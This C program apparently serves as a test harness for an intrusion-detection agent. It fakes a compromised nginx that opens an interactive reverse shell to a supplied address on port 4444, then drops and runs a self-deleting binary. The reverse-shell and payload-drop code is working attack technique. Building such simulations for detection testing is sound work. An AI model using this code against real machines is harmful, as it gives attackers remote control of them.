/* farm: starts a server for each line "MEMORY ADDRESS" of its input. It is there before the agent, and without a shell
 * above it: processes that grow from one shell within ten minutes are one story, and each server shall be its own.
 * nginx: stands in for a web server that was broken into; on SIGUSR1 a child calls ADDRESS, port 4444, and becomes a shell
 * whose input and output are that connection: the first act, with a far end.
 * sh: that shell. It writes a program to /dev/shm and, 300 ms later, runs it, as if that had been typed over the connection:
 * the second act, which completes the case.
 * any other name: the dropped program. It does nothing but write into shared memory what time it is, until it is stopped.
 * MEMORY and ADDRESS stand in the environment: a shell with arguments would read no commands. In MEMORY: the begin, the last
 * sign of life, in nanoseconds; the process group of all. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

static unsigned long now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000UL + t.tv_nsec;
}

static char program[4096];

/* Another program beside this one. */
static void become(const char *name, char *option)
{
	strcpy(strrchr(program, '/') + 1, name);
	char *words[] = { program, option, 0 };
	execv(program, words);
	_exit(127);
}

static volatile unsigned long *map(void)
{
	return mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, open(getenv("MEMORY"), O_RDWR), 0);
}

static int farm(void)
{
	char memory[256], address[64];
	signal(SIGCHLD, SIG_IGN);
	while (scanf("%255s %63s", memory, address) == 2)
		if (fork() == 0) {
			setenv("MEMORY", memory, 1);
			setenv("ADDRESS", address, 1);
			become("nginx", 0);
		}
	return 0;
}

/* The stolen shell: a connection to whoever waits for it, and a shell on it. */
static void call(void)
{
	struct sockaddr_in far = { .sin_family = AF_INET, .sin_port = htons(4444) };
	int sock = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	inet_pton(AF_INET, getenv("ADDRESS"), &far.sin_addr);
	connect(sock, (struct sockaddr *)&far, sizeof far);
	for (int stream = 0; stream < 3; stream++)
		dup2(sock, stream);
	become("sh", "-i");
}

static int serve(void)
{
	sigset_t go;
	int number;

	signal(SIGCHLD, SIG_DFL);
	sigemptyset(&go);
	sigaddset(&go, SIGUSR1);
	sigprocmask(SIG_BLOCK, &go, 0);
	setpgid(0, 0);
	map()[2] = getpid();
	sigwait(&go, &number);
	pid_t child = fork();
	if (child == 0)
		call();
	return child < 0 || waitpid(child, 0, 0) < 0;
}

static int shell(void)
{
	char path[300], chunk[65536];
	long got;

	snprintf(path, sizeof path, "%s.dropped", getenv("MEMORY"));
	int from = open("/proc/self/exe", O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_EXCL, 0700);
	while ((got = read(from, chunk, sizeof chunk)) > 0)
		if (write(to, chunk, got) != got)
			_exit(1);
	close(from);
	close(to);
	/* Everything before is history when it runs. */
	usleep(300000);
	pid_t child = fork();
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		map()[0] = now();
		execl(path, path, (char *)0);
		_exit(127);
	}
	waitpid(child, 0, 0);
	return 0;
}

int main(int argc, char **argv)
{
	const char *name = strrchr(argv[0], '/');

	(void)argc;
	snprintf(program, sizeof program, "%s", argv[0]);
	if (!name)
		return 2;
	if (!strcmp(name, "/farm"))
		return farm();
	if (!strcmp(name, "/nginx"))
		return serve();
	if (!strcmp(name, "/sh"))
		return shell();
	volatile unsigned long *memory = map();
	unlink(argv[0]);
	for (;;)
		memory[1] = now();
}
